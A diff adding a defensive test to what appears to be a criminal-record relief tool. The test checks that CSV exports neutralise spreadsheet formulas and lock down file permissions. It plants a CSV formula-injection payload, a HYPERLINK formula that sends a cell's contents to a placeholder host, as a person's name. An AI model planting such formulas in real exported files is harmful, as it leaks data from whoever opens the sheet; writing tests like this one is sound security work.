@@ -157,3 +157,29 @@ def test_whatif_lists_exactly_what_a_real_second_evaluation_changes_and_writes_n
 def test_whatif_before_any_evaluation_is_a_usage_error(imported):
     done = run("whatif", "--db", imported, "--policy", "los-angeles-pilot-2019")
     assert done.returncode == 2 and "evaluate" in done.stderr
+
+
+def test_whatif_csv_cells_cannot_run_as_formulas_and_the_file_is_the_owners(tmp_path):
+    """A name from the DOJ file that starts with = would run in Excel; the what-if CSV writes it as text,
+    and a file that was there already is made the owner's only (it lists names and CII numbers)."""
+    import os
+    import stat
+
+    source, db = tmp_path / "doj.csv", str(tmp_path / "r.db")
+    write_demo_file(source, rows=1500, county="LOS ANGELES", seed=16)
+    assert run("import", source, "--db", db).returncode == 0
+    assert run("evaluate", "--db", db, "--county", "LOS ANGELES", "--as-of", AS_OF, "--workers", "1").returncode == 0
+    poisoned = '=HYPERLINK("http://x/?"&A1,"x")'
+    database = Database(db)
+    with database.engine.begin() as conn:
+        conn.execute(m.Person.__table__.update().values(name=poisoned))
+    database.dispose()
+    out = tmp_path / "whatif.csv"
+    out.write_text("")
+    out.chmod(0o644)
+    done = run("whatif", "--db", db, "--policy", "los-angeles-pilot-2019", "--csv", out)
+    assert done.returncode == 0, done.stderr
+    with open(out, newline="", encoding="utf-8") as fh:
+        names = {r["name"] for r in csv.DictReader(fh)}
+    assert names == {"'" + poisoned}
+    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
